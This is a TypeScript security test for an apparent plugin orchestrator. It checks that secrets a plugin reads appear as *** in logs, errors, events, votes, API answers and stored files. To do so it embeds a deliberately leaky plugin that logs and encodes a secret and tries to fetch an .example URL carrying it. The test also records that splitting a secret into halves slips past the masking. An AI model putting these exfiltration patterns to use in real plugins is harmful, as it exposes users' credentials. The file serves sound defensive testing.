/**
 * SEC-01: a plugin that may read a secret shows it wherever a plugin can show anything. Where the value stands whole, plain or
 * in a usual encoding, `***` is written down instead. A plugin that takes it apart first is not stopped by that: what is
 * granted with "reveal" is trusted with the value.
 */
import assert from 'node:assert/strict'
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { test } from 'node:test'
import { appSpec } from '../support/app-spec.ts'
import { startOrchestry } from '../support/orchestry.ts'
import { writePlugin } from '../support/plugin-folder.ts'
import { tempDir } from '../support/temp-dir.ts'
import { waitFor } from '../support/wait-for.ts'

const value = 'hunter2/correct-"horse"+battery'
const forms: Readonly<Record<string, string>> = {
  plain: value,
  base64: Buffer.from(value).toString('base64'),
  base64url: Buffer.from(value).toString('base64url'),
  url: encodeURIComponent(value),
  json: JSON.stringify(value).slice(1, -1),
}
const halves = [value.slice(0, 15), value.slice(15)]

const leaky = `import { definePlugin } from '@orchestry/sdk'

const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
function base64(text: string): string {
  const bits = Array.from(text, (letter) => letter.charCodeAt(0).toString(2).padStart(8, '0')).join('')
  const body = (bits.match(/.{1,6}/g) ?? []).map((six) => letters[parseInt(six.padEnd(6, '0'), 2)]).join('')
  return body.padEnd(Math.ceil(body.length / 4) * 4, '=')
}

export default definePlugin({
  scaler: {
    metrics: [],
    async decide({ app, ctx, hold }) {
      const secret = await ctx.secrets.get('token')
      if (app.labels.does === 'throw') throw new Error('it is ' + secret)
      if (app.labels.does === 'nonsense') return { replicas: secret, reason: secret } as never
      ctx.log.info('plain ' + secret, { [secret]: { deep: secret } })
      ctx.log.info('base64 ' + base64(secret) + ' and ' + base64('user:' + secret))
      ctx.log.info('url ' + encodeURIComponent(secret))
      ctx.log.info('first ' + secret.slice(0, 15))
      ctx.log.info('second ' + secret.slice(15))
      await ctx.events.emit('leak.happened', { text: secret, inner: [base64(secret)] })
      await ctx.metrics.emit([{ app: app.name, metric: 'leak', value: 1, labels: { text: secret } }])
      try { await ctx.net.fetch('https://' + base64('x') + '.example/' + encodeURIComponent(secret)) } catch {}
      return hold('because of ' + secret)
    },
  },
})
`
const capabilities = [
  { kind: 'secrets', mode: 'reveal', names: ['token'], why: 'test' },
  { kind: 'net', hosts: ['nobody.example'], why: 'test' },
  { kind: 'log' },
  { kind: 'events', emit: ['leak.*'] },
  { kind: 'metrics', emit: ['leak'] },
]

interface Line {
  readonly message: string
  readonly fields?: string
}

test('SEC-01: what a plugin shows of a secret is *** in logs, errors, events, labels, votes and answers', async (t) => {
  const orchestry = await startOrchestry(t)
  const dir = await writePlugin(join(await tempDir(t), 'leaky'), {
    name: 'leaky',
    code: leaky,
    manifest: { capabilities },
  })
  await orchestry.api('/api/v1/secrets/token', { method: 'PUT', body: { value } })
  const installed = await orchestry.cli('plugin', 'install', dir, '--yes')
  assert.equal(installed.code, 0, installed.stderr)
  for (const does of ['tell', 'throw', 'nonsense']) {
    const spec = appSpec(does, { scaling: { scalers: ['leaky'], windowSeconds: 1, cooldownSeconds: 0 } }) as {
      metadata: { labels?: object }
    }
    spec.metadata.labels = { does }
    await orchestry.api('/api/v1/apps', { method: 'POST', body: spec })
  }
  type Decisions = {
    decisions: { votes: { vote?: { reason: string }; error?: { code: string; message: string } }[] }[]
  }
  const voteOf = async (app: string) => {
    const { decisions } = await orchestry.api<Decisions>(`/api/v1/apps/${app}/decisions?limit=5`)
    return decisions.flatMap(({ votes }) => votes)[0]
  }
  const votes = await waitFor(
    async () => {
      const found = await Promise.all(['tell', 'throw', 'nonsense'].map(voteOf))
      return found.every((vote) => vote !== undefined) ? found : undefined
    },
    { timeoutMs: 20_000, what: 'three decisions' },
  )
  const [told, thrown, nonsense] = votes

  await t.test('in logs', async () => {
    const { lines } = await orchestry.api<{ lines: Line[] }>('/api/v1/plugins/leaky/logs?lines=100')
    const starting = (word: string) => lines.find(({ message }) => message.startsWith(`${word} `))
    assert.deepEqual([starting('plain')?.message, starting('plain')?.fields], ['plain ***', '{"***":{"deep":"***"}}'])
    assert.match(starting('base64')?.message ?? '', /^base64 \*\*\* and .{0,8}\*\*\*.{0,3}$/)
    assert.equal(starting('url')?.message, 'url ***')
  })

  await t.test('in errors, incidents and votes', async () => {
    assert.match(thrown?.error?.message ?? '', /^Error: it is \*\*\*/)
    assert.match(nonsense?.error?.message ?? '', /answered \{"replicas":"\*\*\*","reason":"\*\*\*"\}/)
    assert.equal(told?.vote?.reason, 'because of ***')
    const { incidents } = await orchestry.api<{ incidents: { message: string }[] }>('/api/v1/plugins/leaky')
    assert.ok(incidents.some(({ message }) => message.startsWith('Error: it is ***')))
  })

  await t.test('in events', async () => {
    const { events } = await orchestry.api<{ events: { data: object }[] }>('/api/v1/events?type=leak.happened')
    assert.deepEqual(events[0]?.data, { text: '***', inner: ['***'] })
  })

  await t.test('nowhere else: in no answer, on no stream of the process, in no file', async () => {
    const paths = [
      ...['apps', 'decisions', 'events?limit=200', 'plugins', 'plugins/leaky', 'plugins/leaky/logs', 'secrets'],
      ...['plugins/leaky/capabilities', 'plugins/leaky/usage', 'apps/tell', 'apps/tell/metrics?seriesSeconds=60'],
    ].map((path) => `/api/v1/${path}`)
    const texts = new Map<string, string>([['output', orchestry.output()]])
    for (const path of [...paths, '/metrics', '/readyz'])
      texts.set(path, await (await fetch(`${orchestry.url}${path}`)).text())
    await orchestry.stop()
    for (const file of await readdir(orchestry.dataDir, { recursive: true, withFileTypes: true }))
      if (file.isFile()) texts.set(file.name, await readFile(join(file.parentPath, file.name), 'latin1'))
    assert.ok(texts.size > 15)
    const found = [...texts].flatMap(([where, text]) =>
      Object.entries(forms).flatMap(([form, needle]) => (text.includes(needle) ? [`${form} in ${where}`] : [])),
    )
    assert.deepEqual(found, [])
  })

  await t.test('but not when it is taken apart first: who may read it may do that', async () => {
    for (const [index, half] of halves.entries())
      assert.ok(orchestry.output().includes(JSON.stringify(half).slice(1, -1)), `half ${index}`)
  })
})

test('SEC-01: a plugin that throws a secret while it is activated says *** to whoever installs it', async (t) => {
  const orchestry = await startOrchestry(t)
  const code = `import { definePlugin } from '@orchestry/sdk'
export default definePlugin({
  async activate(ctx) { throw new Error('it is ' + await ctx.secrets.get('token')) },
  scaler: { metrics: [], decide: ({ hold }) => hold('x') },
})
`
  const manifest = { capabilities: capabilities.slice(0, 1) }
  const dir = await writePlugin(join(await tempDir(t), 'throws'), { name: 'throws', code, manifest })
  await orchestry.api('/api/v1/secrets/token', { method: 'PUT', body: { value } })
  const { code: exit, stdout, stderr } = await orchestry.cli('plugin', 'install', dir, '--yes')
  assert.equal(exit, 1)
  assert.match(stderr, /it is \*\*\*/)
  for (const text of [stdout, stderr, orchestry.output()]) assert.equal(text.includes('hunter2'), false, text)
})
